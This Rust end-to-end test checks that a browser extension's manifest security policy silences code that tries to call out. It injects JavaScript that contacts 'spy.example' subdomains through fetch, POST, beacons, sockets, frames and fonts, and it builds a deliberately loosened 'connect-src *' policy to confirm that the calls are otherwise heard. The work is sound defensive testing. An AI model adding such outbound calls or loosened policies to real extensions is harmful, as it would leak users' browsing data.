//! The policy in the manifest is what keeps the extension silent, not only that its code asks for nothing: code that does
//! ask is refused under it, and heard by the proxy without it.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

#[macro_use]
mod common;

use e2e::browser::{Browser, Kind, Setup};
use e2e::net::{Practice, demo_folder};
use e2e::{Result, wait};
use serde_json::{Value, json};
use std::path::Path;
use tempfile::TempDir;

const SPY: &str = "spy.example";

/// Each way out of a page to a host of its own name, tried at once; `data-tried` says when all are over.
const PAGE_CALLS: &str = "
    const made = (tag, set) => new Promise((done) => {
        const element = Object.assign(document.createElement(tag), set);
        element.onload = element.onerror = () => done();
        document.head.append(element);
    });
    const calls = [
        fetch('https://fetch.spy.example/').catch(() => {}),
        fetch('https://opaque.spy.example/', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {}),
        made('img', { src: 'https://image.spy.example/' }),
        made('script', { src: 'https://script.spy.example/' }),
        made('link', { rel: 'stylesheet', href: 'https://style.spy.example/' }),
        new Promise((done) => { try { const s = new WebSocket('wss://socket.spy.example/'); s.onerror = s.onopen = done; } catch { done(); } }),
        new Promise((done) => { try { const s = new EventSource('https://events.spy.example/'); s.onerror = () => { s.close(); done(); }; } catch { done(); } }),
        new FontFace('spy', 'url(https://font.spy.example/)').load().catch(() => {}),
    ];
    try { navigator.sendBeacon('https://beacon.spy.example/', 'x'); } catch { }
    const frame = document.createElement('iframe');
    frame.src = 'https://frame.spy.example/';
    document.body.append(frame);
    Promise.all(calls).then(() => { document.documentElement.dataset.tried = 'all'; });
";

const BACKGROUND_CALLS: &str = "
    fetch('https://background.spy.example/').catch(() => {})
        .then(() => browser.storage.local.set({ 'spy-tried': true }));
";

/// A copy of the practice build whose code calls out; `loosened`: and whose policy lets it.
fn spying(extension: &Path, loosened: bool) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    copy(extension, folder.path());
    let add = |name: &str, more: &str| {
        let file = folder.path().join(name);
        let text = std::fs::read_to_string(&file).unwrap() + more;
        std::fs::write(file, text).unwrap();
    };
    add("pages-start.js", PAGE_CALLS);
    add("background.js", BACKGROUND_CALLS);
    if loosened {
        let file = folder.path().join("manifest.json");
        let mut manifest: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        let policy =
            "script-src 'self' 'wasm-unsafe-eval'; connect-src *; img-src *; style-src *; font-src *; frame-src *";
        let pages = &mut manifest["content_security_policy"]["extension_pages"];
        assert!(pages.is_string());
        *pages = json!(policy);
        std::fs::write(file, manifest.to_string()).unwrap();
    }
    folder
}

fn copy(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// What the network heard once everything was tried.
async fn heard(kind: Kind, loosened: bool) -> Result<Option<Vec<String>>> {
    let Some(tools) = common::tools(kind) else { return Ok(None) };
    let extension = spying(&tools.extension, loosened);
    let practice = Practice::start(&demo_folder()).await?;
    // The page that greets a new user may stay: it calls out as the others do.
    let setup =
        Setup { extension: Some(extension.path().to_path_buf()), welcome: true, ..Setup::new(&tools, &practice) };
    let browser = Browser::start(setup).await?;
    for page in ["dashboard.html", "popup.html", "sidebar.html"] {
        browser.open_page(page).await?;
        wait::until("all ways to be tried", || async {
            let tried = browser.eval("return document.documentElement.dataset.tried ?? null", vec![]).await?;
            Ok((tried == json!("all")).then_some(()))
        })
        .await?;
    }
    wait::until("the background to try", || async {
        let tried = "return (await chrome.storage.local.get('spy-tried'))['spy-tried'] ?? null";
        Ok((browser.eval_async(tried, vec![]).await? == json!(true)).then_some(()))
    })
    .await?;
    Ok(Some(practice.overheard()))
}

async fn code_that_calls_out_is_refused(kind: Kind) -> Result<()> {
    let Some(mut heard) = heard(kind, false).await? else { return Ok(()) };
    if kind == Kind::Chromium {
        // Chromium 156 connects to a frame's host before it asks the policy, which then refuses the frame: nothing is
        // requested, but the host's name is out. No page of ours makes a frame.
        heard.retain(|call| !(call.contains("CONNECT") && call.contains("frame.spy.example:443")));
    }
    assert_eq!(heard, [""; 0], "the policy lets something out");
    println!("{kind}: nothing of a spying copy gets out under the policy");
    Ok(())
}

async fn without_the_policy_it_is_heard(kind: Kind) -> Result<()> {
    let Some(heard) = heard(kind, true).await? else { return Ok(()) };
    assert!(heard.iter().any(|call| call.contains(SPY)), "the check sees nothing: {heard:?}");
    println!("{kind}: without the policy {} calls are heard", heard.len());
    Ok(())
}

in_both!(code_that_calls_out_is_refused, without_the_policy_it_is_heard);
